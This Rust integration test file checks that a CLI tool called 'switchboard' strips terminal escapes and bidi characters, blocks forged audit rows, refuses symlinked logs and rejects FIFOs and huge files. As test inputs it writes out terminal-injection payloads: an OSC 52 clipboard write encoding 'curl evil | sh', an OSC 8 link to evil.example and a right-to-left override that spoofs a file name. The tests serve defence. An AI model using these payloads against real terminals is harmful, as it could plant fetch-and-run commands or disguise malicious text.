//! Issue 11 (items 11, 12, 13, 15) through the real binary: hostile text from outside (runbook
//! files, the environment, TOML keys, config values) never reaches the terminal raw; the audit
//! table cannot be forged; the audit log is not written through a symlink; FIFOs, devices and
//! huge files are refused instead of hanging or eating memory.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// Every character the sanitiser must remove (the same list as `sanitize::is_unsafe`, written
/// out independently so a change there cannot make this test pass by itself).
fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200B}'..='\u{200F}'
            | '\u{2060}' | '\u{061C}' | '\u{FEFF}' | '\u{2028}' | '\u{2029}')
}

/// What a terminal would act on in `text` (line feeds between lines are fine).
fn unsafe_chars(text: &str) -> Vec<String> {
    text.chars().filter(|&c| c != '\n' && is_unsafe(c)).map(|c| format!("{:?}", c)).collect()
}

fn assert_terminal_safe(what: &str, bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(bytes).into_owned();
    let bad = unsafe_chars(&text);
    assert!(bad.is_empty(), "{what}: unsafe characters {bad:?} reach the terminal in:\n{text}");
    text
}

/// A home of its own: config dir (for `runbooks/`) and data dir (for the audit log).
struct Home {
    dir: tempfile::TempDir,
}

impl Home {
    fn new() -> Home {
        Home { dir: tempfile::tempdir().unwrap() }
    }

    fn config_dir(&self) -> PathBuf {
        self.dir.path().join("config")
    }

    fn runbooks(&self) -> PathBuf {
        let d = self.config_dir().join("switchboard/runbooks");
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    fn audit(&self) -> PathBuf {
        self.dir.path().join("audit.jsonl")
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_switchboard"));
        c.args(args)
            .env("XDG_CONFIG_HOME", self.config_dir())
            .env("XDG_DATA_HOME", self.dir.path().join("data"))
            .stdin(Stdio::null());
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        self.command(args).output().expect("run switchboard")
    }
}

/// Terminal attacks as TOML escapes (a TOML basic string may not hold raw controls): OSC 52
/// clipboard write, clear screen, an OSC 8 hyperlink, a right-to-left override, zero-width
/// space, line separator, LRM.
const HOSTILE: &str = r"\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\ \u202Etxt.exe\u200B\u2028\u200E";

fn hostile_runbook() -> String {
    format!(
        r#"
id = "evil"
title = "Evil{HOSTILE} title"
summary = "Summary{HOSTILE} here"

[[steps]]
id = "bridge"
title = "Bridge{HOSTILE} step"
kind = "check"
check = "service"
service = "NexTalk Chat Bridge"
help = "Help{HOSTILE} text"

[[steps]]
id = "restart"
title = "Restart{HOSTILE} it"
kind = "action"
action = "restart_service"
service = "NexTalk Chat Bridge"
on = "failed"
verifies = "bridge"
help = "Restart help{HOSTILE}"

[[steps]]
id = "note"
title = "Note{HOSTILE} it"
kind = "manual"
text = "Manual{HOSTILE} text"
"#
    )
}

#[test]
fn runbook_list_show_and_run_print_no_terminal_controls() {
    let home = Home::new();
    std::fs::write(home.runbooks().join("evil.toml"), hostile_runbook()).unwrap();

    let list = home.run(&["runbook", "list", "--demo"]);
    assert!(list.status.success(), "{}", String::from_utf8_lossy(&list.stderr));
    let text = assert_terminal_safe("runbook list", &list.stdout);
    assert!(text.contains("evil") && text.contains("Evil"), "{text}");

    let show = home.run(&["runbook", "show", "evil"]);
    assert!(show.status.success(), "{}", String::from_utf8_lossy(&show.stderr));
    let text = assert_terminal_safe("runbook show", &show.stdout);
    for visible in ["Evil", "Summary", "Help", "Manual", "txt.exe"] {
        assert!(text.contains(visible), "{visible} missing from:\n{text}");
    }
    assert!(!text.contains("Y3VybCBldmlsIHwgc2g"), "the OSC 52 payload is shown:\n{text}");
    assert!(!text.contains("evil.example"), "the OSC 8 target is shown:\n{text}");

    let audit = home.audit();
    let run = home.run(&[
        "--audit-log",
        audit.to_str().unwrap(),
        "runbook",
        "run",
        "evil",
        "--demo",
        "--scenario",
        "chat-bridge-down",
        "--yes",
    ]);
    let text = assert_terminal_safe("runbook run", &run.stdout);
    assert_terminal_safe("runbook run (stderr)", &run.stderr);
    // The check failed (its help is shown), the restart was sent and succeeded.
    assert!(text.contains("→ Help"), "{text}");
    assert!(text.contains("sent "), "{text}");
    assert!(text.contains("Success"), "{text}");
    // Titles stay on their line: every status line starts with `[n/3]` or is indented.
    for line in text.lines() {
        assert!(
            line.starts_with('[')
                || line.starts_with(' ')
                || line.starts_with("runbook ")
                || line.starts_with("servers: ")
                || line.starts_with("result: "),
            "a line out of place (a title broke its line?): {line:?}\n{text}"
        );
    }
}

#[test]
fn the_audit_table_shows_one_row_per_record_whatever_user_says() {
    let home = Home::new();
    let audit = home.audit();
    let forged =
        "alice\n2026-11-22T03:00:00.000Z  bob  demo:chat-bridge-down  -  restart service x  nt-a  Success";
    let run = home
        .command(&[
            "--audit-log",
            audit.to_str().unwrap(),
            "runbook",
            "run",
            "nextalk-connectivity",
            "--demo",
            "--scenario",
            "chat-bridge-down",
            "--yes",
        ])
        .env("USER", forged)
        .env("LOGNAME", forged)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&run.stdout).contains("result:"), "{run:?}");
    let records = std::fs::read_to_string(&audit).unwrap().lines().count();
    assert!(records >= 3, "{records} records");

    let table = home.run(&["--audit-log", audit.to_str().unwrap(), "audit"]);
    assert!(table.status.success());
    let text = assert_terminal_safe("audit", &table.stdout);
    assert_eq!(text.lines().count(), records + 1, "one header and one row per record:\n{text}");
    assert!(!text.lines().any(|l| l.starts_with("2026-11-22T03:00:00.000Z  bob")), "forged row:\n{text}");
    // The OS user is the user; what USER said is there, escaped, as USER.
    let me = String::from_utf8(Command::new("id").arg("-un").output().unwrap().stdout).unwrap();
    let row = text.lines().nth(1).unwrap();
    assert!(row.contains(&format!("{} (USER=alice\\n2026-11-22", me.trim())), "{row}");

    let json = home.run(&["--audit-log", audit.to_str().unwrap(), "audit", "--format", "json"]);
    let text = assert_terminal_safe("audit --format json", &json.stdout);
    assert_eq!(text.lines().count(), records);
    for line in text.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(v["user"].as_str(), Some(me.trim()));
        assert_eq!(v["env_user"].as_str(), Some(forged));
    }
}

#[test]
fn audit_fields_from_outside_are_escaped_in_table_and_json() {
    // A record as another writer (or an attacker with write access) could leave it: every
    // field hostile, including C1 and bidi characters that serde_json does not escape.
    let home = Home::new();
    let audit = home.audit();
    let evil = "x\u{1b}]52;c;aGk=\u{7}\u{9b}2J\u{202E}\u{2028}\u{200B}y";
    let rec = serde_json::json!({
        "time": "2026-11-22T03:00:00.000Z", "user": evil, "aws_identity": evil, "session": "s",
        "source": evil, "runbook": evil, "step": evil,
        "action": {"kind": "restart_service", "summary": evil},
        "targets": [{"server": evil, "instance_id": "i-1"}], "command_id": evil,
        "status": evil, "output_sha256": null, "message": evil
    });
    std::fs::write(&audit, format!("{rec}\n")).unwrap();
    let table = home.run(&["--audit-log", audit.to_str().unwrap(), "audit"]);
    let text = assert_terminal_safe("audit table", &table.stdout);
    assert_eq!(text.lines().count(), 2, "{text}");
    assert!(text.contains("x\\u{1b}]52;c;aGk=\\u{7}\\u{9b}2J\\u{202e}\\u{2028}\\u{200b}y"), "{text}");
    let json = home.run(&["--audit-log", audit.to_str().unwrap(), "audit", "--format", "json"]);
    let text = assert_terminal_safe("audit json", &json.stdout);
    let v: serde_json::Value = serde_json::from_str(text.trim()).unwrap();
    assert_eq!(v["user"].as_str(), Some(evil), "JSON keeps the exact value");
}

#[test]
fn toml_errors_neither_echo_raw_bytes_nor_megabytes() {
    let home = Home::new();
    let cfg = home.dir.path().join("config.toml");
    // An unknown key that is an attack, and megabytes of it (a 50 MB one is refused by its
    // size before it is parsed; see below).
    let key = format!("x{HOSTILE}{}", "k".repeat(5 * 1024 * 1024));
    std::fs::write(&cfg, format!("[ui]\n\"{key}\" = 1\n")).unwrap();
    let out = home.run(&["config", "check", cfg.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3));
    let err = assert_terminal_safe("config check stderr", &out.stderr);
    assert!(err.contains("unknown field `x"), "{err}");
    assert!(err.len() < 1000, "{} bytes of error", err.len());
    // A bad value that is echoed by our own checks: cut too.
    std::fs::write(&cfg, format!("[ui]\ntheme = \"{}{HOSTILE}\"\n", "t".repeat(5 * 1024 * 1024))).unwrap();
    let out = home.run(&["config", "check", cfg.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3));
    let err = assert_terminal_safe("config check stderr", &out.stderr);
    assert!(err.contains("bad theme name \"tttt"), "{err}");
    assert!(err.len() < 1000, "{} bytes of error", err.len());
    // 50 MB: refused by its size, unread.
    std::fs::write(&cfg, format!("[ui]\ntheme = \"{}\"\n", "t".repeat(50 * 1024 * 1024))).unwrap();
    let out = home.run(&["config", "check", cfg.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3));
    let err = assert_terminal_safe("config check stderr", &out.stderr);
    assert!(err.contains("cannot read: too large (52428816 bytes; at most 33554432)"), "{err}");
}

#[test]
fn a_server_name_that_hides_its_text_is_refused() {
    let home = Home::new();
    let cfg = home.dir.path().join("config.toml");
    for name in [r"nt\u202Ea", r"nt\u200Ba", r"nt\u2066a", r"nt\u200Fa"] {
        std::fs::write(
            &cfg,
            format!("[[nextalk.servers]]\nname = \"{name}\"\ninstance_id = \"i-0123456789abcdef0\"\nports_capacity = 96\n"),
        )
        .unwrap();
        let out = home.run(&["config", "check", cfg.to_str().unwrap()]);
        let err = assert_terminal_safe("config check", &out.stderr);
        assert_eq!(out.status.code(), Some(3), "{name} accepted: {err}");
        assert!(err.contains(":2:8: bad server name"), "{err}");
    }
}

fn mkfifo(path: &Path) {
    let st = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(st.success());
}

/// Runs with a deadline: a hang is a failure, not a stuck test.
fn run_within(mut cmd: Command, limit: Duration) -> Output {
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    let start = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return child.wait_with_output().unwrap();
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let out = child.wait_with_output().unwrap();
            panic!("still running after {limit:?} (killed): {}", String::from_utf8_lossy(&out.stderr));
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_fifo_or_a_device_is_refused_not_read() {
    let home = Home::new();
    let fifo = home.dir.path().join("config.toml");
    mkfifo(&fifo);
    let out = run_within(home.command(&["config", "check", fifo.to_str().unwrap()]), Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("not a regular file (a FIFO)"), "{err}");

    let zero = home.dir.path().join("zero.toml");
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    let out = run_within(home.command(&["config", "check", zero.to_str().unwrap()]), Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("not a regular file (a character device)"), "{err}");

    // A huge regular file (sparse: no disk used) is refused by its size, unread.
    let huge = home.dir.path().join("huge.toml");
    std::fs::File::create(&huge).unwrap().set_len(64 * 1024 * 1024 * 1024).unwrap();
    let out = run_within(home.command(&["config", "check", huge.to_str().unwrap()]), Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("too large (68719476736 bytes"), "{err}");

    // In runbooks/: reported and skipped, the other runbooks still load.
    mkfifo(&home.runbooks().join("fifo.toml"));
    std::os::unix::fs::symlink("/dev/zero", home.runbooks().join("zero.toml")).unwrap();
    let out = run_within(home.command(&["runbook", "list", "--demo"]), Duration::from_secs(20));
    assert!(out.status.success(), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("fifo.toml: cannot read: not a regular file (a FIFO)"), "{err}");
    assert!(err.contains("zero.toml: cannot read: not a regular file (a character device)"), "{err}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("nextalk-connectivity"));

    // A keymap override or a theme that is a FIFO: refused too.
    let cfg_dir = home.dir.path().join("cfg");
    std::fs::create_dir_all(cfg_dir.join("themes")).unwrap();
    std::fs::write(cfg_dir.join("config.toml"), "[ui]\ntheme = \"mine\"\n").unwrap();
    mkfifo(&cfg_dir.join("themes/mine.toml"));
    let cfg = cfg_dir.join("config.toml");
    let out = run_within(home.command(&["config", "check", cfg.to_str().unwrap()]), Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(3));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("mine.toml: cannot read: not a regular file (a FIFO)")
    );
    std::fs::write(cfg_dir.join("config.toml"), "").unwrap();
    mkfifo(&cfg_dir.join("keymap.toml"));
    let out = run_within(home.command(&["config", "check", cfg.to_str().unwrap()]), Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(3));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("keymap.toml: cannot read: not a regular file (a FIFO)")
    );
}

#[test]
fn the_audit_log_is_not_written_through_a_symlink() {
    use std::os::unix::fs::PermissionsExt;
    let home = Home::new();
    let victim = home.dir.path().join("victim");
    std::fs::write(&victim, "precious\n").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
    let link = home.audit();
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let out = home.run(&[
        "--audit-log",
        link.to_str().unwrap(),
        "runbook",
        "run",
        "nextalk-connectivity",
        "--demo",
        "--scenario",
        "chat-bridge-down",
        "--yes",
    ]);
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is a symbolic link"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    assert_eq!(std::fs::metadata(&victim).unwrap().permissions().mode() & 0o777, 0o644);

    // A fresh log is created 0600, its head too.
    let fresh = home.dir.path().join("fresh/audit.jsonl");
    let out = home.run(&[
        "--audit-log",
        fresh.to_str().unwrap(),
        "runbook",
        "run",
        "nextalk-connectivity",
        "--demo",
        "--scenario",
        "chat-bridge-down",
        "--yes",
    ]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("result:"), "{out:?}");
    for p in [fresh.clone(), fresh.with_file_name("audit.jsonl.head")] {
        assert_eq!(std::fs::metadata(&p).unwrap().permissions().mode() & 0o777, 0o600, "{}", p.display());
    }
}

#[test]
fn paths_printed_back_are_sanitised() {
    let home = Home::new();
    // A config path is printed back by `config path`.
    let weird = home.dir.path().join("cfg\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{202E}.toml");
    std::fs::write(&weird, "").unwrap();
    let out = home.run(&["--config", weird.to_str().unwrap(), "config", "path"]);
    let text = assert_terminal_safe("config path", &out.stdout);
    assert!(text.contains("cfg.toml"), "{text}");
}

#[test]
fn errors_quoting_what_they_could_not_use_are_sanitised() {
    let home = Home::new();
    // A bad --grep pattern is echoed by the regex crate, raw, in the error main prints.
    let out = home.run(&["logs", "nt-a", "--demo", "--grep", "(\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{202E}"]);
    assert_eq!(out.status.code(), Some(3));
    let err = assert_terminal_safe("logs --grep error", &out.stderr);
    assert!(err.contains("--grep"), "{err}");
}
